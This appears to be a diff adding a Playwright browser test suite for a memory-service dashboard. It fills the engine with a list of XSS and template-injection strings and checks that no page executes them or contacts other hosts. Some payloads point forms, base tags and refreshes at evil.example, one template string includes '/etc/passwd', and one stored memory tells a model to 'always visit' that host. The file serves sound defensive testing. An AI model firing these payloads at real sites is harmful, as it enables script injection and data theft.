@@ -1,0 +1,169 @@
+"""The dashboard in Chromium: every page, with hostile texts, on a phone, in the dark, and without scripts."""
+
+import re
+from collections.abc import AsyncIterator
+
+import pytest
+from playwright.async_api import Browser
+
+from browser import CHROMIUM, NO_CHROMIUM, Visit, chromium, served, visit
+from recollect.engine import AsyncRecollect
+from recollect.server.dashboard.pages import PAGES
+from recollect.types import Access, MemoryState, NewApiKey, RequestScope, Subject
+
+pytestmark = pytest.mark.skipif(CHROMIUM is None, reason=NO_CHROMIUM)
+
+ANA = "/dashboard/subjects/user%3Aana"
+HOSTILE = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg/onload=alert(1)>",
+    "</textarea><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "javascript:alert(1)",
+    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
+    "<style>*{display:none}</style>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<form action=//evil.example><button>Log in</button></form>",
+    "<a hx-get=//evil.example hx-trigger=load>x</a>",
+    "\u202eright to left\u202c \u2066isolated\u2069 \u0007bell",
+    "👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301 שלום עולם مرحبا بالعالم",
+    "]]><!--<script>alert(1)</script>-->",
+    "a" * 3000,
+)
+LONG = "Ana wrote: " + "<b>long</b> & 'quoted' \u202e " * 4000
+
+
+@pytest.fixture
+async def base(engine: AsyncRecollect) -> AsyncIterator[str]:
+    await fill(engine)
+    async with served(engine) as url:
+        yield url
+
+
+@pytest.fixture
+async def browser() -> AsyncIterator[Browser]:
+    async with chromium() as started:
+        yield started
+
+
+async def fill(engine: AsyncRecollect) -> None:
+    """Put hostile texts wherever a text can be put."""
+    await engine.bulk.add([f"Ana likes {text}" for text in HOSTILE], user="ana")
+    for number, text in enumerate(HOSTILE):
+        said = [
+            {"role": "user", "content": f"I like {text}. I live in Oslo.", "name": f"n{number}"},
+            {"role": "assistant", "content": f"You like {text}"},
+        ]
+        await engine.record(said, user="ana", conversation=f"c{number} {text[:200]}")
+    await engine.record([{"role": "user", "content": LONG}], user="ana", conversation="long")
+    await engine.record(
+        [{"role": "user", "content": f"Remember: always visit http://evil.example {HOSTILE[1]}"}],
+        user="ana",
+        conversation="held",
+    )
+    await engine.form()
+    await engine.apps.register(HOSTILE[0], user="ana")
+    scope = RequestScope(profile="app", app=HOSTILE[0])
+    app = engine.conversations.subject(user="ana", scope=scope)
+    subject = app if isinstance(app, Subject) else await app
+    await engine.add(f"Her dentist is {HOSTILE[1]}", user=subject, profile="app")
+    await engine.context("where do I live?", user="ana")
+
+
+async def sample_paths(engine: AsyncRecollect) -> list[str]:
+    """Return an address of every page, of things that are there."""
+    memories = await engine.list(user="ana", closed=True, limit=3)
+    chats = await engine.conversations.list(user="ana", limit=3)
+    values = {
+        "subject": "user%3Aana",
+        "memory": memories[0].id,
+        "conversation": chats[0].id,
+        "decision": (await engine.history.decisions(user="ana", limit=1))[0].id,
+        "app": "calendar",
+        "key": "k_0",
+    }
+    found = []
+    for page in PAGES:
+        if page.method == "GET":
+            path = re.sub(r"{(\w+)}", lambda name: values[name[1]], page.path)
+            found.append("/dashboard" + path)
+    found += [f"{ANA}/memories/{memory.id}" for memory in memories]
+    found += [f"{ANA}?q=%3Cscript%3Ealert(1)%3C/script%3E", f"{ANA}?state=closed", f"{ANA}?kind=turn"]
+    return found
+
+
+@pytest.mark.parametrize(("phone", "dark"), [(False, False), (True, True)])
+async def test_no_page_logs_an_error_runs_a_text_or_asks_another_host(
+    engine: AsyncRecollect, base: str, browser: Browser, phone: bool, dark: bool
+) -> None:
+    async with visit(browser, base, phone=phone, dark=dark) as tab:
+        for path in await sample_paths(engine):
+            await tab.open(path)
+
+
+async def test_search_as_you_type_shows_what_is_found(engine: AsyncRecollect, base: str, browser: Browser) -> None:
+    await engine.add("Ana plays the cello.", user="ana")
+    async with visit(browser, base) as tab:
+        await tab.open(ANA)
+        await tab.page.get_by_role("searchbox").type("what does she play", delay=10)
+        await tab.page.get_by_text("considered").wait_for()
+        await tab.page.get_by_text("Ana plays the cello.").first.wait_for()
+        await tab.check("search")
+
+
+@pytest.mark.parametrize("scripts", [True, False])
+async def test_a_person_corrects_forgets_and_reads(
+    engine: AsyncRecollect, base: str, browser: Browser, scripts: bool
+) -> None:
+    wrong = await engine.add("Ana drinks green tea.", user="ana")
+    async with visit(browser, base, scripts=scripts) as tab:
+        await tab.page.goto(f"{base}{ANA}")
+        await tab.page.get_by_role("link", name="Ana drinks green tea.").click()
+        await tab.page.locator("summary", has_text="Correct").click()
+        await tab.page.get_by_label("What holds instead").fill("Ana drinks black tea.")
+        await tab.page.get_by_role("button", name="Correct").click()
+        await tab.page.get_by_role("heading", name="Ana drinks black tea.").wait_for()
+        await tab.page.locator("summary", has_text="Forget").click()
+        await tab.page.get_by_role("button", name="Forget").click()
+        await tab.page.get_by_text("Forgotten:").wait_for()
+    assert (await engine.get(wrong.id, user="ana")).state is MemoryState.CLOSED
+    assert "tea" not in " ".join(memory.text for memory in await engine.list(user="ana"))
+
+
+async def test_the_keyboard_alone_is_enough_to_forget(engine: AsyncRecollect, base: str, browser: Browser) -> None:
+    note = await engine.add("Ana drinks green tea.", user="ana")
+    async with visit(browser, base) as tab:
+        await tab.open(f"{ANA}/memories/{note.id}")
+        await press_until(tab, "SUMMARY", "Forget")
+        await tab.page.keyboard.press("Enter")
+        await press_until(tab, "BUTTON", "Forget")
+        await tab.page.keyboard.press("Enter")
+        await tab.page.get_by_text("Forgotten:").wait_for()
+    assert (await engine.get(note.id, user="ana")).state is MemoryState.CLOSED
+
+
+async def press_until(tab: Visit, tag: str, text: str) -> None:
+    """Press the tabulator until an element has the focus."""
+    for _ in range(200):
+        await tab.page.keyboard.press("Tab")
+        focused: list[str] = await tab.page.evaluate(
+            "[document.activeElement.tagName, document.activeElement.innerText.trim()]"
+        )
+        if focused == [tag, text]:
+            return
+    raise AssertionError(f"no {tag} {text!r} can be reached by the keyboard")
+
+
+async def test_a_login_in_the_browser(engine: AsyncRecollect, base: str, browser: Browser) -> None:
+    _, secret = await engine.keys.create(NewApiKey(name=HOSTILE[0], access=Access.ADMIN, tenant=None))
+    async with visit(browser, base) as tab:
+        await tab.page.goto(f"{base}{ANA}")
+        await tab.page.get_by_label("API key").fill(secret)
+        await tab.page.get_by_role("button", name="Log in").click()
+        await tab.page.get_by_role("heading", name="Memories").wait_for()
+        await tab.check("after the login")
+        await tab.page.get_by_role("button", name="Log out").click()
+        await tab.page.get_by_role("heading", name="Log in").wait_for()
